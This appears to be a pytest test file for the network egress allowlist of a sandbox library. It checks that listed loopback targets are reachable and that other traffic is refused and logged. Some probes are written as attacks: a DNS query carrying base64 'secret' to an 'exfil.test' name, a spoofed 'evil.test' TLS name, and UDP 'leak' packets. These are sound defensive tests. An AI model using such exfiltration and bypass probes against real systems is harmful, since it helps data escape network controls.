"""Egress allowlist through the public API (`cellblock.run(allow_net=...)`, the CLI, sessions).

Servers are started by the tests on the host's loopback only (127.0.0.1 and [::1], one port for
both); every response carries a per-module token and the request path, so a payload that reads
it back proves the bytes came from the host's server (not from something inside the sandbox).
"Outside" targets named inside the sandbox are TEST-NET addresses (192.0.2.1) and `.test`
names: everything the sandbox sends goes to the supervisor, which refuses unlisted targets
before dialling. The host itself connects to nothing but its loopback.

Documented behaviour tested here (rust/core/src/net/mod.rs): inside the sandbox 127.0.0.1 is
its own loopback, except that a *listed* loopback target (`127.0.0.1:PORT`, `localhost:PORT`)
means the host's loopback and shadows the sandbox's own service on that port; DNS answers for
allowed names are synthetic (198.18.0.0/15); a name never vouches for a non-public address.
Core-level behaviour (their own netns) is in rust/core/tests/net.rs.
"""

from __future__ import annotations

import ipaddress
import json
import os
import secrets
import shutil
import socket
import ssl
import subprocess
import textwrap
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

import cellblock
from conftest import EGRESS_IS_COLD, PRELUDE, Cli, Runner, processes_with_argv, wait_for

OUTSIDE = "192.0.2.1"  # TEST-NET-1: never routed; inside the sandbox it only reaches the proxy
BAD_PATTERNS = ["", "a b", "host:99999", "*.", "http://x"]
#: Names the sandbox's own /etc/hosts resolves (so they never reach the DNS stub).
SANDBOX_HOSTS = {"localhost", "cellblock", "ip6-localhost", "ip6-loopback"}
HAS_CURL = shutil.which("curl") is not None
HAS_NODE = shutil.which("node") is not None
HAS_OPENSSL = shutil.which("openssl") is not None

#: Helpers every network payload gets (after conftest's PRELUDE: attempt, report).
NET_PRELUDE = PRELUDE + textwrap.dedent('''\
    import http.client, ssl, urllib.error, urllib.request
    PORT = int(os.environ.get("PORT", "0"))
    PROXY = ("127.0.0.1", 3128)
    def body(data):
        return data.split(b"\\r\\n\\r\\n", 1)[-1].decode(errors="replace").strip()
    def read_all(s):
        data = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                return data
            data += chunk
    def raw_get(addr, path, host=None, family=socket.AF_INET):
        """GET over a plain socket (no proxy): the transparent path."""
        s = socket.socket(family)
        s.settimeout(15)
        s.connect(addr)
        s.sendall(f"GET {path} HTTP/1.0\\r\\nHost: {host or addr[0]}\\r\\n\\r\\n".encode())
        with s:
            return body(read_all(s))
    def urlopen(url, proxy=False):
        """urllib as programs use it; proxy=True ignores NO_PROXY (which lists 127.0.0.1)."""
        names = ("NO_PROXY", "no_proxy") if proxy else ()
        saved = {k: os.environ.pop(k) for k in names if k in os.environ}
        try:
            with urllib.request.urlopen(url, timeout=15) as r:
                return r.read().decode().strip()
        finally:
            os.environ.update(saved)
    def tunnel_get(host, port, path, context=None):
        """A CONNECT tunnel through the proxy, as requests does for https."""
        cls = http.client.HTTPSConnection if context else http.client.HTTPConnection
        kw = {"context": context} if context else {}
        c = cls(*PROXY, timeout=15, **kw)
        c.set_tunnel(host, port)
        c.request("GET", path)
        return c.getresponse().read().decode().strip()
    def outcome(fn, *args, **kw):
        """fn's result, or what failed: 'HTTP <code> <body>', an errno name or an error class."""
        try:
            return fn(*args, **kw)
        except urllib.error.HTTPError as e:
            return f"HTTP {e.code} {e.read().decode(errors='replace').strip()}"
        except (OSError, urllib.error.URLError) as e:
            if isinstance(e, urllib.error.URLError) and isinstance(e.reason, OSError):
                e = e.reason
            if isinstance(e, (socket.gaierror, ssl.SSLError)) or not e.errno or e.errno < 0:
                return type(e).__name__ + (f" {e}" if "Tunnel" in str(e) else "")
            return errno.errorcode.get(e.errno, str(e.errno))
''')


# ---- host-side servers -----------------------------------------------------------------------


class HostServer:
    """HTTP (or HTTPS) on 127.0.0.1:port and, when the host has IPv6, [::1]:port.

    Answers `GET /path` with "<token> <path>"; `/hang` answers one byte once `release` is set
    and then holds the connection until the client side closes it (`hang_closed`)."""

    def __init__(self, token: str, context: ssl.SSLContext | None = None, v4: str = "127.0.0.1",
                 v6: bool = True) -> None:
        self.token = token
        self.hits: list[str] = []
        self.hang_started = threading.Event()
        self.release = threading.Event()
        self.hang_closed = threading.Event()
        handler = self.handler()
        self.servers: list[ThreadingHTTPServer] = []
        for _ in range(50):
            s4 = ThreadingHTTPServer((v4, 0), handler)
            port = s4.server_address[1]
            if not v6:
                self.servers = [s4]
                break
            try:
                s6 = _V6Server(("::1", port), handler)
            except OSError:
                s4.server_close()
                continue
            self.servers = [s4, s6]
            break
        assert self.servers, "no port free on both 127.0.0.1 and ::1"
        self.port = port
        self.has_v6 = len(self.servers) == 2
        for s in self.servers:
            s.daemon_threads = True
            if context is not None:
                # Handshake in the handler thread, so a client that never speaks TLS cannot
                # stall the accept loop.
                s.socket = context.wrap_socket(s.socket, server_side=True,
                                               do_handshake_on_connect=False)
        self.threads = [threading.Thread(target=s.serve_forever, daemon=True) for s in self.servers]
        for t in self.threads:
            t.start()

    def handler(self) -> type[BaseHTTPRequestHandler]:
        server = self

        class Handler(BaseHTTPRequestHandler):
            timeout = 30

            def do_GET(self) -> None:
                server.hits.append(self.path)
                if self.path == "/hang":
                    return self.hang()
                data = f"{server.token} {self.path}".encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def hang(self) -> None:
                self.send_response(200)
                self.end_headers()
                server.hang_started.set()
                server.release.wait(120)
                self.wfile.write(b"x")
                self.wfile.flush()
                self.connection.settimeout(120)
                try:
                    while self.connection.recv(4096):
                        pass
                except OSError:
                    pass
                server.hang_closed.set()
                self.close_connection = True

            def log_message(self, *args: Any) -> None:
                pass

        return Handler

    def body(self, path: str) -> str:
        return f"{self.token} {path}"

    def close(self) -> None:
        self.release.set()
        for s in self.servers:
            s.shutdown()
            s.server_close()
        for t in self.threads:
            t.join()


class _V6Server(ThreadingHTTPServer):
    address_family = socket.AF_INET6


@pytest.fixture(scope="module")
def http_server() -> Iterator[HostServer]:
    server = HostServer("cellblock-net-" + secrets.token_hex(6))
    # Sanity: reachable from the host, so an answer inside proves the way out works.
    with socket.create_connection(("127.0.0.1", server.port), timeout=5) as c:
        c.sendall(b"GET /sanity HTTP/1.0\r\n\r\n")
        assert server.body("/sanity").encode() in c.makefile("rb").read()
    yield server
    server.close()


@pytest.fixture(scope="module")
def tls_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[HostServer, str]]:
    """HTTPS with a fresh self-signed certificate for `localhost`; yields (server, cert PEM)."""
    if not HAS_OPENSSL:
        pytest.skip("openssl is not installed: no certificate for the TLS server")
    d = tmp_path_factory.mktemp("tls")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes",
                    "-subj", "/CN=localhost", "-addext", "subjectAltName=DNS:localhost",
                    "-days", "1",
                    "-keyout", str(d / "k"), "-out", str(d / "c")],
                   check=True, capture_output=True, timeout=60)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(d / "c", d / "k")
    server = HostServer("cellblock-tls-" + secrets.token_hex(6), context=ctx)
    yield server, (d / "c").read_text()
    server.close()


@pytest.fixture
def closed_port() -> Iterator[socket.socket]:
    """A host loopback listener nothing may reach (no allowlist lists it)."""
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.listen()
    s.setblocking(False)
    yield s
    s.close()


def nothing_arrived(listener: socket.socket) -> bool:
    try:
        conn, _ = listener.accept()
    except BlockingIOError:
        return True
    conn.close()
    return False


def probe(sandbox: Runner, code: str, **kwargs: Any) -> tuple[dict[str, Any], SimpleNamespace]:
    """Runs a Python payload (NET_PRELUDE first); returns what it reported and the run's report."""
    res = sandbox.run(["python3", "-c", NET_PRELUDE + textwrap.dedent(code)],
                      **{"timeout": 60, **kwargs})
    assert res.reason == "exited" and res.exit_code == 0, (res.reason, res.exit_code, res.stderr)
    lines = res.stdout.strip().splitlines()
    assert lines, f"payload reported nothing; stderr: {res.stderr}"
    return json.loads(lines[-1]), res


def net_violations(res: SimpleNamespace) -> list[dict[str, Any]]:
    return [v for v in res.violations if v.get("kind") == "network"]


def has_violation(res: SimpleNamespace, host: str, port: int, reason: str | None = None) -> bool:
    return any(v["host"] == host and v["port"] == port and (reason is None or v["reason"] == reason)
               for v in net_violations(res))


def unique(prefix: str) -> str:
    return f"/{prefix}-{secrets.token_hex(4)}"


# ---- no allowlist ------------------------------------------------------------------------------


def test_without_allowlist_nothing_leaves(sandbox: Runner, http_server: HostServer) -> None:
    p = unique("none")
    out, res = probe(sandbox, f"""
        report(proxy_env=sorted(k for k in os.environ if "proxy" in k.lower()),
               raw=outcome(raw_get, ("127.0.0.1", PORT), "{p}/raw"),
               urllib=outcome(urlopen, f"http://127.0.0.1:{{PORT}}{p}/urllib"),
               proxy=outcome(socket.create_connection, PROXY, 5),
               outside=outcome(socket.create_connection, ({OUTSIDE!r}, 80), 5),
               dns=outcome(socket.getaddrinfo, "anything.test", 80))
    """, env={"PORT": str(http_server.port)})
    assert out == {"proxy_env": [], "raw": "ECONNREFUSED", "urllib": "ECONNREFUSED",
                   "proxy": "ECONNREFUSED", "outside": "ENETUNREACH", "dns": "gaierror"}
    assert res.network is None and net_violations(res) == []
    assert not [h for h in http_server.hits if h.startswith(p)]


# ---- listed loopback target ----------------------------------------------------------------------


@EGRESS_IS_COLD
def test_listed_loopback_reached_by_python_clients(sandbox: Runner,
                                                   http_server: HostServer) -> None:
    p = unique("py")
    out, res = probe(sandbox, f"""
        # The sandbox's own service on the listed port is shadowed: the host's answers.
        own = socket.socket()
        own.bind(("127.0.0.1", PORT))
        own.listen()
        own.setblocking(False)
        got = dict(
            raw=outcome(raw_get, ("127.0.0.1", PORT), "{p}/raw"),
            urllib=outcome(urlopen, f"http://127.0.0.1:{{PORT}}{p}/urllib"),
            urllib_proxy=outcome(urlopen, f"http://127.0.0.1:{{PORT}}{p}/urllib-proxy", proxy=True),
            connect=outcome(tunnel_get, "127.0.0.1", PORT, "{p}/connect"),
            own_listener_got=attempt(own.accept) == "OK")
        if socket.has_ipv6:
            # Listed for IPv4 only: [::1] stays the sandbox's own loopback.
            got["v6_unlisted"] = outcome(raw_get, ("::1", PORT), "{p}/v6", family=socket.AF_INET6)
        report(**got)
    """, allow_net=[f"127.0.0.1:{http_server.port}"], env={"PORT": str(http_server.port)})
    for client in ("raw", "urllib", "urllib-proxy", "connect"):
        assert out[client.replace("-", "_")] == http_server.body(f"{p}/{client}"), out
    assert out["own_listener_got"] is False
    assert out.get("v6_unlisted", "ECONNREFUSED") == "ECONNREFUSED"
    assert f"{p}/v6" not in http_server.hits
    assert net_violations(res) == []
    assert res.network is not None and res.network["connections"] >= 4
    assert res.network["bytes_in"] >= 4 * len(http_server.body(f"{p}/connect"))
    assert res.network["bytes_out"] >= 4 * len(f"GET {p}/raw HTTP/1.0\r\n\r\n")


@EGRESS_IS_COLD
@pytest.mark.skipif(not HAS_CURL, reason="curl is not installed")
def test_listed_loopback_reached_by_curl(sandbox: Runner, http_server: HostServer) -> None:
    p = unique("curl")
    script = f"""
        url=http://127.0.0.1:$PORT{p}
        curl -sS --max-time 15 "$url/direct"; echo
        curl -sS --max-time 15 --noproxy '' -x "$HTTP_PROXY" "$url/proxy"; echo
        curl -sS --max-time 15 --noproxy '' -p -x "$HTTP_PROXY" -w ' %{{http_connect}}' \\
            "$url/connect"; echo
    """
    res = sandbox.run(["sh", "-c", textwrap.dedent(script)],
                      allow_net=[f"127.0.0.1:{http_server.port}"],
                      env={"PORT": str(http_server.port)}, timeout=60)
    assert res.exit_code == 0, res.stderr
    assert res.stdout.splitlines() == [http_server.body(f"{p}/direct"),
                                       http_server.body(f"{p}/proxy"),
                                       http_server.body(f"{p}/connect") + " 200"]
    assert res.network["connections"] >= 3 and res.network["bytes_in"] > 0
    assert net_violations(res) == []


@EGRESS_IS_COLD
@pytest.mark.skipif(not HAS_NODE, reason="node is not installed")
def test_listed_loopback_reached_by_node_fetch(sandbox: Runner, http_server: HostServer,
                                               closed_port: socket.socket) -> None:
    # fetch ignores the proxy variables: these go through the transparent path.
    p = unique("node")
    code = textwrap.dedent("""
        const get = (url) => fetch(url).then(
          (r) => r.text(), (e) => 'ERR ' + (e.cause && e.cause.code));
        (async () => {
          const port = process.env.PORT;
          console.log(JSON.stringify({
            ok: await get(`http://127.0.0.1:${port}${process.env.P}`),
            other_port: await get(`http://127.0.0.1:${process.env.OTHER}/`),
            name: await get(`http://blocked.test:${port}/`),
          }));
        })();
    """)
    other = closed_port.getsockname()[1]
    res = sandbox.run(["node", "-e", code], allow_net=[f"127.0.0.1:{http_server.port}"],
                      env={"PORT": str(http_server.port), "P": p, "OTHER": str(other)}, timeout=60)
    assert res.exit_code == 0, res.stderr
    assert json.loads(res.stdout) == {"ok": http_server.body(p), "other_port": "ERR ECONNREFUSED",
                                      "name": "ERR ENOTFOUND"}
    assert res.network["connections"] >= 1
    assert has_violation(res, "blocked.test", 0, "not allowed")
    assert nothing_arrived(closed_port)


@EGRESS_IS_COLD
def test_localhost_pattern_means_the_hosts_loopback(sandbox: Runner,
                                                    http_server: HostServer) -> None:
    p = unique("lh")
    out, res = probe(sandbox, f"""
        got = dict(
            v4=outcome(raw_get, ("127.0.0.1", PORT), "{p}/v4"),
            name=outcome(urlopen, f"http://localhost:{{PORT}}{p}/name"),
            # The supervisor resolves `localhost` itself: its host loopback, listed by the pattern.
            connect=outcome(tunnel_get, "localhost", PORT, "{p}/connect"))
        if socket.has_ipv6:
            got["v6"] = outcome(raw_get, ("::1", PORT), "{p}/v6", host="[::1]",
                                family=socket.AF_INET6)
        report(**got)
    """, allow_net=[f"localhost:{http_server.port}"], env={"PORT": str(http_server.port)})
    assert out["v4"] == http_server.body(f"{p}/v4")
    assert out["name"] == http_server.body(f"{p}/name")
    assert out["connect"] == http_server.body(f"{p}/connect")
    if http_server.has_v6 and "v6" in out:
        assert out["v6"] == http_server.body(f"{p}/v6")
    assert net_violations(res) == [] and res.network["connections"] >= 3


# ---- TLS -----------------------------------------------------------------------------------------


@EGRESS_IS_COLD
def test_tls_by_proxy_tunnel_transparent_path_and_sni(
        sandbox: Runner, tls_server: tuple[HostServer, str]) -> None:
    server, pem = tls_server
    p = unique("tls")
    # The certificate is verified inside: only the host's server holds its key.
    out, res = probe(sandbox, f"""
        ctx = ssl.create_default_context(cadata=os.environ["CA"])
        def direct(addr, path, sni="localhost"):
            s = socket.create_connection(addr, timeout=15)
            t = ctx.wrap_socket(s, server_hostname=sni)
            t.sendall(f"GET {{path}} HTTP/1.0\\r\\nHost: localhost\\r\\n\\r\\n".encode())
            with t:
                return body(read_all(t))
        report(direct=outcome(direct, ("localhost", PORT), "{p}/direct"),
               tunnel=outcome(tunnel_get, "localhost", PORT, "{p}/tunnel", context=ctx),
               # To an unlisted address: the SNI names the target, the supervisor dials it.
               sni=outcome(direct, ({OUTSIDE!r}, PORT), "{p}/sni"),
               sni_unlisted=outcome(direct, ({OUTSIDE!r}, PORT), "{p}/evil", sni="evil.test"))
    """, allow_net=[f"localhost:{server.port}"], env={"PORT": str(server.port), "CA": pem})
    assert out["direct"] == server.body(f"{p}/direct")
    assert out["tunnel"] == server.body(f"{p}/tunnel")
    assert out["sni"] == server.body(f"{p}/sni")
    # Refused connections are reset (SO_LINGER 0), not closed: the client sees an error.
    assert out["sni_unlisted"] == "ECONNRESET", out
    assert f"{p}/evil" not in server.hits
    assert has_violation(res, "evil.test", server.port, "not allowed"), res.violations
    assert res.network["connections"] >= 3


@EGRESS_IS_COLD
@pytest.mark.skipif(not HAS_CURL, reason="curl is not installed")
def test_tls_with_curl(sandbox: Runner, tls_server: tuple[HostServer, str]) -> None:
    server, pem = tls_server
    p = unique("tlscurl")
    script = f"""
        printf '%s' "$CA" > /tmp/ca.pem
        url=https://localhost:$PORT{p}
        curl -sS --max-time 15 --cacert /tmp/ca.pem "$url/direct"; echo
        curl -sS --max-time 15 --cacert /tmp/ca.pem --noproxy '' -x "$HTTPS_PROXY" \\
            -w ' %{{http_connect}}' "$url/connect"; echo
    """
    res = sandbox.run(["sh", "-c", textwrap.dedent(script)], allow_net=[f"localhost:{server.port}"],
                      env={"PORT": str(server.port), "CA": pem}, timeout=60)
    assert res.exit_code == 0, res.stderr
    assert res.stdout.splitlines() == [server.body(f"{p}/direct"),
                                       server.body(f"{p}/connect") + " 200"]
    assert net_violations(res) == []


# ---- refusals ------------------------------------------------------------------------------


@EGRESS_IS_COLD
def test_unlisted_port_on_a_listed_host_is_refused_and_reported(
        sandbox: Runner, http_server: HostServer, closed_port: socket.socket) -> None:
    other = closed_port.getsockname()[1]
    out, res = probe(sandbox, f"""
        def sniffed():
            # To an unlisted address, naming the host's unlisted port in the Host header.
            return raw_get(({OUTSIDE!r}, OTHER), "/sniffed", host=f"127.0.0.1:{{OTHER}}")
        def opaque():
            s = socket.create_connection(({OUTSIDE!r}, 80), timeout=15)
            s.sendall(b"\\x00not-http")
            return read_all(s).decode()
        OTHER = int(os.environ["OTHER"])
        report(raw=outcome(raw_get, ("127.0.0.1", OTHER), "/raw"),
               urllib_proxy=outcome(urlopen, f"http://127.0.0.1:{{OTHER}}/", proxy=True),
               connect=outcome(tunnel_get, "127.0.0.1", OTHER, "/connect"),
               sniffed=outcome(sniffed), opaque=outcome(opaque))
    """, allow_net=[f"127.0.0.1:{http_server.port}"],
        env={"PORT": str(http_server.port), "OTHER": str(other)})
    # Unlisted, 127.0.0.1:OTHER is the sandbox's own loopback: nothing listens there.
    assert out["raw"] == "ECONNREFUSED"
    assert out["urllib_proxy"] == f"HTTP 403 cellblock: 127.0.0.1:{other} refused: not allowed"
    assert out["connect"].startswith("OSError Tunnel connection failed: 403"), out
    # No listed name could be behind an unlisted address: refused at connect time.
    assert out["sniffed"] == "ECONNREFUSED" and out["opaque"] == "ECONNREFUSED", out
    assert has_violation(res, "127.0.0.1", other, "not allowed"), res.violations
    assert has_violation(res, OUTSIDE, 80, "not allowed"), res.violations
    assert nothing_arrived(closed_port)
    assert res.network == {"connections": 0, "bytes_out": 0, "bytes_in": 0}


@EGRESS_IS_COLD
def test_unlisted_name_is_refused_at_dns_and_reported(sandbox: Runner,
                                                      http_server: HostServer) -> None:
    out, res = probe(sandbox, f"""
        def dns_query(server, name):
            # A hand-made query sent to an outside resolver: UDP 53 goes to the stub whatever
            # the address, and it answers NXDOMAIN itself (nothing is forwarded).
            q = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00"
            q += b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
            q += b"\\x00\\x00\\x01\\x00\\x01"  # root label, type A, class IN
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            u.settimeout(10)
            u.sendto(q, (server, 53))
            r = u.recv(512)
            answers = int.from_bytes(r[6:8], "big")
            return {{"id": r[:2].hex(), "rcode": r[3] & 15, "answers": answers}}
        report(getaddrinfo=outcome(socket.getaddrinfo, "blocked.test", 443),
               exfil=outcome(dns_query, {OUTSIDE!r}, "c2VjcmV0.exfil.test"),
               proxy=outcome(urlopen, f"http://blocked.test:{{PORT}}/", proxy=True))
    """, allow_net=[f"127.0.0.1:{http_server.port}"], env={"PORT": str(http_server.port)})
    assert out["getaddrinfo"] == "gaierror"
    assert out["exfil"] == {"id": "1234", "rcode": 3, "answers": 0}
    refused = f"HTTP 403 cellblock: blocked.test:{http_server.port} refused: not allowed"
    assert out["proxy"] == refused
    assert has_violation(res, "blocked.test", 0, "not allowed"), res.violations
    assert has_violation(res, "c2VjcmV0.exfil.test", 0, "not allowed"), res.violations
    assert has_violation(res, "blocked.test", http_server.port, "not allowed"), res.violations


def loopback_alias() -> tuple[str, str] | None:
    """A name (not `localhost`) the host's /etc/hosts maps to a loopback IPv4 address, which
    the sandbox's /etc/hosts does not know: (name, address)."""
    try:
        lines = Path("/etc/hosts").read_text().splitlines()
    except OSError:
        return None
    for line in lines:
        fields = line.split("#")[0].split()
        try:
            ip = ipaddress.ip_address(fields[0]) if fields else None
        except ValueError:
            continue
        if ip is None or ip.version != 4 or not ip.is_loopback:
            continue
        for name in fields[1:]:
            name = name.lower()
            if name in SANDBOX_HOSTS or ("." in name and name.rsplit(".", 1)[1].isdigit()):
                continue
            try:
                found = {a[4][0] for a in socket.getaddrinfo(name, None)}
            except socket.gaierror:
                continue
            if found == {str(ip)}:
                return name, str(ip)
    return None


@pytest.fixture(scope="module")
def alias_server() -> Iterator[tuple[HostServer, str]]:
    """A server on the address a host-local name resolves to; yields (server, name)."""
    alias = loopback_alias()
    if alias is None:
        pytest.skip("no name in the host's /etc/hosts maps only to a loopback IPv4 address")
    name, ip = alias
    server = HostServer("cellblock-alias-" + secrets.token_hex(6), v4=ip, v6=False)
    yield server, name
    server.close()


@EGRESS_IS_COLD
def test_listed_name_resolving_to_loopback_needs_the_address_listed(
        sandbox: Runner, alias_server: tuple[HostServer, str]) -> None:
    server, name = alias_server
    ip = server.servers[0].server_address[0]
    p = unique("alias")
    code = f"""
        NAME = os.environ["NAME"]
        def resolve():
            return sorted({{a[4][0] for a in socket.getaddrinfo(NAME, PORT, socket.AF_INET)}})
        addrs = outcome(resolve)
        proxied = outcome(urlopen, f"http://{{NAME}}:{{PORT}}{p}/proxy", proxy=True)
        got = dict(addrs=addrs, proxy=proxied)
        if isinstance(addrs, list):
            got["raw"] = outcome(raw_get, (addrs[0], PORT), "{p}/raw", host=NAME)
        report(**got)
    """
    env = {"PORT": str(server.port), "NAME": name}
    by_name = [f"{name}:{server.port}"]
    (refused, res_refused), (allowed, res_allowed) = (
        probe(sandbox, code, allow_net=by_name, env=env),
        probe(sandbox, code, allow_net=[*by_name, f"{ip}:{server.port}"], env=env))
    # Only the name listed: refused at DNS and at the proxy, reported with the address.
    reason = f"non-public address {ip} (loopback)"
    assert refused == {"addrs": "gaierror",
                       "proxy": f"HTTP 403 cellblock: {name}:{server.port} refused: {reason}"}
    assert has_violation(res_refused, name, 0, reason), res_refused.violations
    assert has_violation(res_refused, name, server.port, reason), res_refused.violations
    assert res_refused.network["connections"] == 0
    # The address listed too: the name gets a synthetic address, both paths reach the host.
    assert len(allowed["addrs"]) == 1
    assert ipaddress.ip_address(allowed["addrs"][0]) in ipaddress.ip_network("198.18.0.0/15")
    assert allowed["proxy"] == server.body(f"{p}/proxy")
    assert allowed["raw"] == server.body(f"{p}/raw")
    assert net_violations(res_allowed) == [] and res_allowed.network["connections"] >= 2
    assert [h for h in server.hits if h.startswith(p)] == [f"{p}/proxy", f"{p}/raw"]


@EGRESS_IS_COLD
def test_udp_other_than_dns_is_refused_and_reported(sandbox: Runner,
                                                    http_server: HostServer) -> None:
    host_udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    host_udp.bind(("127.0.0.1", 0))
    host_udp.setblocking(False)
    with host_udp:
        out, res = probe(sandbox, f"""
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            for _ in range(3):
                attempt(u.sendto, b"leak", ({OUTSIDE!r}, 9999))
            loop = attempt(u.sendto, b"leak", ("127.0.0.1", int(os.environ["UDP"])))
            # The TCP path still works in the same run.
            report(loop=loop, tcp=outcome(raw_get, ("127.0.0.1", PORT), "/udp-run"))
        """, allow_net=[f"127.0.0.1:{http_server.port}"],
            env={"PORT": str(http_server.port), "UDP": str(host_udp.getsockname()[1])})
        assert out["tcp"] == http_server.body("/udp-run")
        assert has_violation(res, OUTSIDE, 9999, "udp not allowed"), res.violations
        # Unlisted, 127.0.0.1 is the sandbox's own loopback: the host's socket gets nothing.
        with pytest.raises(BlockingIOError):
            host_udp.recv(64)


# ---- bad patterns --------------------------------------------------------------------------------


@EGRESS_IS_COLD
@pytest.mark.parametrize("pattern", BAD_PATTERNS)
def test_bad_pattern_raises(sandbox: Runner, pattern: str) -> None:
    with pytest.raises(cellblock.NetworkPolicyError, match="bad allow pattern"):
        sandbox.run(["true"], allow_net=["127.0.0.1:80", pattern])


def test_cli_allow_net(cli: Cli, http_server: HostServer) -> None:
    # One bad pattern here (each CLI start costs seconds); the API test tries them all.
    res = cli.run(["run", "--allow-net", "127.0.0.1:80", "--allow-net", "a b", "--", "true"])
    assert res.returncode == 2, res
    assert res.stderr.decode().startswith(
        'cellblock: error: NetworkPolicyError: network: bad allow pattern "a b"'), res.stderr
    if not HAS_CURL:
        pytest.skip("curl is not installed")
    p = unique("cli")
    res = cli.run(["run", "--json", "--allow-net", f"127.0.0.1:{http_server.port}", "--",
                   "curl", "-sS", "--max-time", "15", f"http://127.0.0.1:{http_server.port}{p}"])
    report = json.loads(res.stdout)
    assert report["exit_code"] == 0 and report["stdout"] == http_server.body(p), report
    assert report["network"]["connections"] == 1 and report["network"]["bytes_in"] > 0


# ---- teardown ------------------------------------------------------------------------------------


def listening_sockets() -> set[str]:
    """Local addresses of the listening TCP sockets of this network namespace."""
    out = set()
    for name in ("tcp", "tcp6"):
        for line in Path(f"/proc/net/{name}").read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A":
                out.add(f"{name} {fields[1]}")
    return out


def egress_threads(pid: int) -> list[str]:
    names = []
    for task in os.listdir(f"/proc/{pid}/task"):
        try:
            comm = Path(f"/proc/{pid}/task/{task}/comm").read_text().strip()
        except OSError:
            continue
        if comm.startswith("cb-net"):
            names.append(comm)
    return names


def settled_thread_count(runner: Runner) -> int:
    """The caller's thread count once threads that finished their work have exited (a joined
    Python thread, an idle executor worker can linger for a moment after their run returned)."""
    seen: list[int] = []

    def stable() -> bool:
        seen.append(runner.stats()["threads"])
        return len(seen) >= 5 and len(set(seen[-5:])) == 1
    wait_for(stable, "a stable thread count")
    return seen[-1]


@EGRESS_IS_COLD
def test_nothing_left_running(sandbox: Runner, marker: str) -> None:
    server = HostServer("cellblock-hang-" + secrets.token_hex(6))
    try:
        allow = [f"127.0.0.1:{server.port}"]
        probe(sandbox, "report(ok=1)", allow_net=allow)  # warm-up: lazy one-time state
        sandbox.cells(drain=True)  # ready cells and queued teardowns hold fds: not leftovers
        base_threads = settled_thread_count(sandbox)
        base = sandbox.stats()
        pid = base["pid"]
        py_threads = threading.active_count()
        listeners = listening_sockets()
        wait = sandbox.start(["python3", "-c", NET_PRELUDE + textwrap.dedent(f"""
            import subprocess
            s = socket.create_connection(("127.0.0.1", PORT), timeout=60)
            s.sendall(b"GET /hang HTTP/1.0\\r\\n\\r\\n")
            while not s.recv(4096).endswith(b"x"):
                pass
            # A process the run leaves behind holds the connection open; the run ends now.
            subprocess.Popen(["sleep", {marker!r}], pass_fds=[s.fileno()],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        """)], allow_net=allow, env={"PORT": str(server.port)}, timeout=60)
        wait_for(server.hang_started.is_set, "the payload's connection to reach the host")
        # While a connection is relayed the supervisor has egress threads: the check below can fail.
        assert egress_threads(pid), "no cb-net threads seen during the run"
        server.release.set()
        res = wait()
        assert res.reason == "exited" and res.exit_code == 0, res.stderr
        assert res.network["connections"] == 1
        wait_for(server.hang_closed.is_set, "the relayed connection to be cut")
        assert processes_with_argv(["sleep", marker]) == []
        # Joined threads can stay listed in /proc for a moment (the kernel wakes the joiner
        # before it unlists the task): wait, bounded.
        wait_for(lambda: not egress_threads(pid), "egress threads to be gone")
        sandbox.cells(drain=True)
        wait_for(lambda: sandbox.stats()["threads"] == base_threads, "threads back to baseline")
        after = sandbox.stats()
        assert after["fds"] == base["fds"]
        if pid == os.getpid():
            wait_for(lambda: threading.active_count() == py_threads, "Python threads at baseline")
        assert listening_sockets() == listeners
    finally:
        server.close()


# ---- sessions ------------------------------------------------------------------------------------


def test_session_reaches_listed_host_in_every_call(http_server: HostServer) -> None:
    p = unique("session")
    url = f"http://127.0.0.1:{http_server.port}{p}"
    def py(code: str) -> list[str]:
        return ["python3", "-c", NET_PRELUDE + code]
    with cellblock.Sandbox(allow_net=[f"127.0.0.1:{http_server.port}"]) as sb:
        first = sb.run(py(f"print(outcome(urlopen, {url + '/1'!r}))"))
        second = sb.run(py(f"print(outcome(urlopen, {url + '/2'!r}, proxy=True))"))
        unlisted = sb.run(py("print(outcome(socket.getaddrinfo, 'blocked.test', 80))"))
    assert first.stdout.strip() == http_server.body(f"{p}/1")
    assert second.stdout.strip() == http_server.body(f"{p}/2")
    assert unlisted.stdout.strip() == "gaierror"
    wait_for(lambda: not egress_threads(os.getpid()), "egress threads to be gone")


def test_session_calls_report_network_use_and_refusals(http_server: HostServer) -> None:
    with cellblock.Sandbox(allow_net=[f"127.0.0.1:{http_server.port}"]) as sb:
        res = sb.run(["python3", "-c", NET_PRELUDE +
                      "print(outcome(urlopen, 'http://127.0.0.1:1/', proxy=True))"])
    assert res.stdout.strip() == "HTTP 403 cellblock: 127.0.0.1:1 refused: not allowed"
    assert has_violation(SimpleNamespace(violations=res.violations), "127.0.0.1", 1, "not allowed")
    assert res.network is not None
